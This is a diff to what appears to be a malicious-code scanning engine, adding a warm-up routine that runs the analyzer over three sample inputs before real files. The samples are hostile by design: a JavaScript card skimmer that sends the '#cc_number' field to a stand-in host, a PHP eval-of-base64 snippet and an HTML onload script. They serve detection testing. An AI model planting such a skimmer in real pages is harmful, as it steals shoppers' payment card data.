@@ -77,6 +77,29 @@ SG450 = RuleInfo(
 )
 
 
+# Small inputs that take every layer once: rule sets, triage scans, the tokenizers and the
+# JavaScript parser are built on first use; :func:`warm_up` builds them before the first real file.
+_WARM_UP_SAMPLES: tuple[tuple[bytes, str], ...] = (
+    (
+        b"var _0x1=['\\x63ard'];document.querySelector('#cc_number').addEventListener('change',"
+        b"function(){new Image().src='https://x.test/?d='+btoa(this.value)});",
+        "warm-up.js",
+    ),
+    (b"<?php $a = 'ev'.'al'; echo \"\\x41\"; eval(base64_decode('ZWNobyAxOw==')); ?>", "warm-up.php"),
+    (b"<html><body onload=\"x()\"><script>document.write('<b>1</b>')</script></body></html>", "warm-up.html"),
+)
+
+
+def warm_up(options: Options | None = None) -> None:
+    """Build what the engine builds on first use (compiled rules, the triage and threat-intel
+    prefilters, the parsers), so that the first real file does not pay for it: the analysis
+    pool's workers call it when they start."""
+    for language in Language:
+        yara_rules.packaged_rule_set(language)
+    for data, path in _WARM_UP_SAMPLES:
+        analyze_bytes(data, path, options)
+
+
 def catalog() -> tuple[RuleInfo, ...]:
     """Every code rule the engine can report, sorted by ID (the documentation of ``SG4xx``)."""
     rules = [*yara_rules.rule_catalog(), *structure.structure_catalog(), SG450]
